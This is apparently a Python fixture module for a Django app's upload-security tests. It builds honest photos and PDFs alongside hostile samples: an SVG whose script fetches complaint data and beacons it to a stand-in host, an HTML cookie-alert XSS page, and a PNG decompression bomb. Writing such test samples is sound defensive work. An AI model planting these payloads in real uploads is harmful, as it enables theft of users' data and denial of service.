"""Files for the attachment tests, made on the spot: honest photos and PDFs, and the hostile
ones an attacker would upload (docs/security.md, Attachments)."""

import os
import struct
import zlib
from io import BytesIO

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

GPS_LATITUDE = (22.0, 32.0, 10.5)  # a resident's home, in the camera's EXIF


def photo_bytes(fmt="JPEG", size=(640, 480), *, gps=True, orientation=None, colour=(200, 40, 40)):
    image = Image.new("RGB", size, colour)
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0110] = "Phone X"
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "N", 2: GPS_LATITUDE, 3: "E", 4: (113.0, 56.0, 1.0)}
    buffer = BytesIO()
    image.save(buffer, fmt, exif=exif.tobytes())
    return buffer.getvalue()


def camera_sized_jpeg(size=(3300, 2900)) -> bytes:
    """A phone-camera-sized photo of about 9 MB: noise does not compress."""
    image = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    buffer = BytesIO()
    image.save(buffer, "JPEG", quality=92)
    return buffer.getvalue()


def pdf_bytes(body: bytes = b"") -> bytes:
    """A minimal, well-formed one-page PDF."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + body + b">>",
    ]
    out, offsets = BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (4, xref))
    return out.getvalue()


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def jpeg(name="leak.jpg", **kwargs):
    return upload(name, photo_bytes("JPEG", **kwargs), "image/jpeg")


def png(name="lift.png", **kwargs):
    return upload(name, photo_bytes("PNG", **kwargs), "image/png")


def webp(name="rubbish.webp", **kwargs):
    return upload(name, photo_bytes("WEBP", **kwargs), "image/webp")


def pdf(name="letter.pdf", body=b""):
    return upload(name, pdf_bytes(body), "application/pdf")


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>fetch("/complaints/").then(r=>r.text()).then(t=>navigator.sendBeacon("//x",t))'
    b"</script><rect width='10' height='10'/></svg>"
)
HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def huge_dimensions_png(width=30_000, height=30_000) -> bytes:
    """A 100-byte file that announces 900 megapixels (a decompression bomb): the header says
    so, the pixels would be decoded only by a careless reader."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )
